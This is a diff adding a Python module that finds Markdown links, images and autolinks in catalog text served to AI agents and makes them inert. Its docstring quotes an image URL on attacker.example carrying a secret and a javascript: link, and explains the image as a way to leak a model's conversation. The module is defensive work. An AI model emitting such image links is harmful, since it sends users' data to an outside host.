@@ -1,0 +1,69 @@
+"""Markdown link and image syntax in catalog text: found (for `capidx validate`) and made inert (for the build).
+
+Catalog text reaches every agent that connects, and a client that renders Markdown fetches an image when it
+shows it: `![x](https://attacker.example/p.png?d=secret)` in a description is the usual way to leak a
+conversation out of a model's context, and `[click](javascript:alert(1))` a link nobody should follow.
+So no catalog string becomes a live image or link in any artifact; the only links capidx makes are its
+own (a source or documentation address, and on the site only when it is http or https).
+
+`defused` breaks the syntax with a space, not a backslash, so that one text is inert in every output: a
+Markdown document, a JSON tool answer (where a backslash is itself escaped and would turn the bracket
+live again when the JSON is shown as Markdown) and the site's HTML:
+
+- `](`, `][` and `]:` become `] (`, `] [` and `] :`: an inline link or image, a reference link and a
+  reference definition all need the bracket right before; `[x]` alone is text, since no artifact defines
+  a reference (capidx writes none, and none can come from the catalog);
+- an autolink `<scheme:…>` or `<name@host>` becomes `< scheme:…>` (the Markdown filters escape other `<`).
+
+Addresses (a source's `url`, `supersededBy`, `startUrl`, the documentation links) are URIs by the schema
+and printed as text; they get the same treatment but for `]:`, which a URI may hold (`http://[::1]:80/`).
+A bare `https://…` in prose is left as it is: a renderer that links it makes a link to click, not an image.
+"""
+
+from __future__ import annotations
+
+import re
+from typing import Any
+
+# Fields holding an address (capability documents: sources, implementation notes, documentation).
+URL_KEYS = frozenset({"url", "supersededBy", "startUrl", "officialDocs", "releaseNotes", "github", "apiDocs"})
+
+# A scan stops at the next `<`, space or `>`: linear in the text, however many `<` it holds.
+_AUTOLINK = r"<(?=[A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*>|[^\s<>@]+@[^\s<>@]+>)"
+_IN_TEXT = re.compile(rf"\](?=[(\[:])|{_AUTOLINK}")
+_IN_URL = re.compile(rf"\](?=[(\[])|{_AUTOLINK}")
+_CONTEXT = 24  # characters shown on each side of a finding
+
+
+def defuse(text: str, *, url: bool = False) -> str:
+    """`text` with every Markdown link, image, reference and autolink made plain text (see above)."""
+    if "]" not in text and "<" not in text:
+        return text
+    return (_IN_URL if url else _IN_TEXT).sub(lambda found: found.group(0) + " ", text)
+
+
+def defused(value: Any, key: object = None) -> Any:
+    """A parsed JSON document with every string (keys included) defused; addresses as addresses (`URL_KEYS`).
+    Strings without `]` or `<` (nearly all) are returned as they are."""
+    if isinstance(value, str):
+        if "]" not in value and "<" not in value:
+            return value
+        return defuse(value, url=key in URL_KEYS)
+    if isinstance(value, dict):
+        return {name if type(name) is not str else defuse(name): defused(item, name) for name, item in value.items()}
+    if isinstance(value, list):
+        return [defused(item, key) for item in value]
+    return value
+
+
+def link_syntax(text: str) -> str | None:
+    """The first Markdown link, image, reference or autolink in `text` with some context, or None."""
+    if "]" not in text and "<" not in text:
+        return None
+    found = _IN_TEXT.search(text)
+    if found is None:
+        return None
+    start = text.rfind("[", 0, found.start())
+    start = found.start() if start < 0 or found.start() - start > _CONTEXT else start
+    start = max(0, start - 1) if start > 0 and text[start - 1] == "!" else start
+    return text[start : found.end() + _CONTEXT]
